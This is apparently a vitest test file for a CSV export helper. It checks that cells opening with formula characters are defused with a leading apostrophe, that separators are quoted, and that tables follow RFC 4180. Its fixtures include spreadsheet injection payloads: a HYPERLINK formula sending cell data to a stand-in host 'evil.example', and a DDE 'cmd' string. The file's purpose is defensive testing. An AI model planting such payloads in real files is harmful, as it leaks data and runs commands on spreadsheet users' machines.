import { expect, test } from 'vitest';
import { csvCell, csvTable } from './csv.ts';

test.each([
  '=HYPERLINK("http://evil.example?x="&A1,"Click")',
  "=cmd|' /C calc'!A0",
  '+1+cmd',
  '-2+3+cmd',
  '@SUM(1)',
  '\t=1',
  '\r=1',
  '\n=1',
  '＝1+1',
  '＋1',
  '－1a',
  '＠x',
])('“%s” stays words in a spreadsheet', (text) => {
  const cell = csvCell(text);
  expect(cell.replace(/^"/, '').startsWith("'")).toBe(true);
  // Nothing of it is lost.
  expect(cell.replace(/^"|"$/g, '').replaceAll('""', '"')).toBe(`'${text}`);
});

test.each(['12.50', '-12.50', '+3', '-7', 'Kavárna', 'a=b', '2026-05-12', 'Ґ', ''])('“%s” stays as it is', (text) => {
  expect(csvCell(text)).toBe(text);
});

test('what would divide cells or lines is quoted, so that a formula can’t hide behind it', () => {
  expect(csvCell('a,=1')).toBe('"a,=1"');
  expect(csvCell('a;=1')).toBe('"a;=1"');
  expect(csvCell('say "=1"')).toBe('"say ""=1"""');
  expect(csvCell('a\r\n=1')).toBe('"a\r\n=1"');
});

test('a table begins with the byte order mark and ends each line as RFC 4180 says', () => {
  expect(
    csvTable([
      ['Day', 'Paid to'],
      ['2026-05-12', 'Pekárna, Brno'],
    ]),
  ).toBe('\ufeffDay,Paid to\r\n2026-05-12,"Pekárna, Brno"\r\n');
});
